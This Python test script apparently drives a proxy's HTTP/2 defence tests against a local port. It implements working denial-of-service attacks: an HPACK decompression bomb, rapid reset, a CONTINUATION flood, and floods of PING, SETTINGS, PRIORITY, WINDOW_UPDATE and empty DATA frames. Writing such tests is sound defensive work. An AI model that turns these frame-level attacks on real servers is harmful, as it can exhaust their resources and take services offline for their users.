#!/usr/bin/env python3
"""Hostile HTTP/2 clients, written frame by frame (RFC 9113 framing, RFC 7541 HPACK literals),
for remora's HTTP/2 defence tests. Usage: h2_attack.py PORT ATTACK
Prints what the server did, one line: "goaway <error code>", "rst <stream> <code>",
"response <status>", "closed" or "open" (still open after the attack and a grace period)."""
import socket, struct, sys, time

PORT, ATTACK = int(sys.argv[1]), sys.argv[2]
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS = 0x1, 0x4


def frame(ftype, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + struct.pack(">I", stream) + payload


def lit(name, value):
    """Literal header field without indexing, no Huffman (name and value lengths < 127)."""
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


def request(path=b"/hello", method=b"GET"):
    return (lit(b":method", method) + lit(b":scheme", b"http") + lit(b":authority", b"svc.local") +
            lit(b":path", path))


def connect(settings=b""):
    s = socket.create_connection(("127.0.0.1", PORT), timeout=5)
    s.sendall(PREFACE + frame(SETTINGS, 0, 0, settings))
    return s


def outcome(s, grace=3.0):
    """Reads frames until GOAWAY / RST / a response / EOF; the first telling one wins."""
    buf = b""
    deadline = time.time() + grace
    s.settimeout(0.2)
    result = None
    while time.time() < deadline:
        try:
            chunk = s.recv(65536)
        except socket.timeout:
            continue
        except ConnectionResetError:
            return result or "closed"
        if not chunk:
            return result or "closed"
        buf += chunk
        while len(buf) >= 9:
            length = struct.unpack(">I", b"\x00" + buf[:3])[0]
            if len(buf) < 9 + length:
                break
            ftype, stream, payload = buf[3], struct.unpack(">I", buf[5:9])[0] & 0x7fffffff, buf[9:9 + length]
            buf = buf[9 + length:]
            if ftype == GOAWAY:
                return "goaway %d" % struct.unpack(">I", payload[4:8])[0]
            if ftype == RST and result is None:
                result = "rst %d %d" % (stream, struct.unpack(">I", payload)[0])
            if ftype == HEADERS and result is None and stream % 2 == 1:
                result = "response"
                if ATTACK == "await-goaway":
                    return result
    return result or "open"


def main():
    if ATTACK == "hpack-bomb":
        # One 4000-byte value into the dynamic table, then 1-byte references to it: a few KB on
        # the wire that decode to megabytes.
        s = connect()
        big = b"x" * 4000
        # Literal with incremental indexing, name "x-bomb", value length 4000 (7-bit prefix int).
        block = request() + b"\x40\x06x-bomb" + b"\x7f" + bytes([(4000 - 127) & 0x7f | 0x80, (4000 - 127) >> 7]) + big
        block += b"\xbe" * 3000  # indexed field 62: the entry just added
        s.sendall(frame(HEADERS, END_STREAM | END_HEADERS, 1, block))
        print(outcome(s))
    elif ATTACK == "rapid-reset":
        s = connect()
        out = b""
        for i in range(1000):
            sid = 1 + 2 * i
            out += frame(HEADERS, END_STREAM | END_HEADERS, sid, request(b"/slowly")) + frame(RST, 0, sid, struct.pack(">I", 8))
        try:
            s.sendall(out)
        except (BrokenPipeError, ConnectionResetError):
            pass
        print(outcome(s))
    elif ATTACK == "continuation-flood":
        s = connect()
        out = frame(HEADERS, 0, 1, request())
        for _ in range(2000):
            out += frame(CONTINUATION, 0, 1, lit(b"x-a", b"b"))
        try:
            s.sendall(out)
        except (BrokenPipeError, ConnectionResetError):
            pass
        print(outcome(s))
    elif ATTACK in ("ping-flood", "settings-flood"):
        s = connect()
        one = frame(PING, 0, 0, b"12345678") if ATTACK == "ping-flood" else frame(SETTINGS, 0, 0, b"")
        try:
            s.sendall(one * 20000)  # never reading the acknowledgements
        except (BrokenPipeError, ConnectionResetError):
            pass
        print(outcome(s))
    elif ATTACK == "empty-data-flood":
        s = connect()
        out = frame(HEADERS, END_HEADERS, 1, request(b"/echo", b"POST"))
        out += frame(DATA, 0, 1, b"") * 1000
        try:
            s.sendall(out)
        except (BrokenPipeError, ConnectionResetError):
            pass
        print(outcome(s))
    elif ATTACK == "priority-flood":
        s = connect()
        out = b"".join(frame(PRIORITY, 0, 1 + 2 * (i % 50), struct.pack(">IB", 0, 16)) for i in range(20000))
        try:
            s.sendall(out)
        except (BrokenPipeError, ConnectionResetError):
            pass
        print(outcome(s))
    elif ATTACK == "window-update-flood":
        s = connect()
        out = frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 5000
        try:
            s.sendall(out)
        except (BrokenPipeError, ConnectionResetError):
            pass
        print(outcome(s))
    elif ATTACK == "zero-window":
        # SETTINGS_INITIAL_WINDOW_SIZE 0 and a large download: the proxy must hold back, not buffer.
        s = connect(struct.pack(">HI", 4, 0))
        for i in range(20):
            s.sendall(frame(HEADERS, END_STREAM | END_HEADERS, 1 + 2 * i, request(b"/bytes/20000000")))
        time.sleep(float(sys.argv[3]) if len(sys.argv) > 3 else 3)
        print("open")
        s.close()
    elif ATTACK == "await-goaway":
        # A well-behaved client that stays connected: reports its response, then whatever the
        # server does next (a draining server sends GOAWAY NO_ERROR and closes).
        s = connect()
        s.sendall(frame(HEADERS, END_STREAM | END_HEADERS, 1, request()))
        print(outcome(s), flush=True)
        print(outcome(s, grace=20.0), flush=True)
    elif ATTACK == "normal":
        s = connect()
        s.sendall(frame(HEADERS, END_STREAM | END_HEADERS, 1, request()))
        print(outcome(s))
    else:
        sys.exit("unknown attack " + ATTACK)


main()
